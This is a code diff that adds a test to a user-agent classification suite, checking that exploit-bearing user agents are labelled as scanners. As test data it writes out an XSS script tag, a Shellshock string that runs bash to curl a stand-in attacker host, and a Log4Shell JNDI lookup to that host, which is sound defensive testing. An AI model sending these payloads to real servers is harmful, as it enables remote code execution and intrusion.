@@ -89,6 +89,16 @@ describe('client classification', () => {
     });
   });
 
+  it('calls a user agent that carries an exploit a scanner, whatever it claims to be', () => {
+    for (const ua of [
+      '<script>alert(1)</script>',
+      '() { :; }; /bin/bash -c "curl http://198.51.100.9/x"',
+      'Mozilla/5.0 (compatible; Googlebot/2.1) ${jndi:ldap://198.51.100.9/a}',
+    ]) {
+      expect(client(ua)).toEqual({ kind: 'scanner', reason: 'attack payload in the user agent' });
+    }
+  });
+
   it('does not take a payload for a product name', () => {
     expect(client('<script>alert(1)</script>').name).toBeUndefined();
     expect(client('() { :; }; /bin/bash -c "curl http://198.51.100.9/x"').name).toBeUndefined();
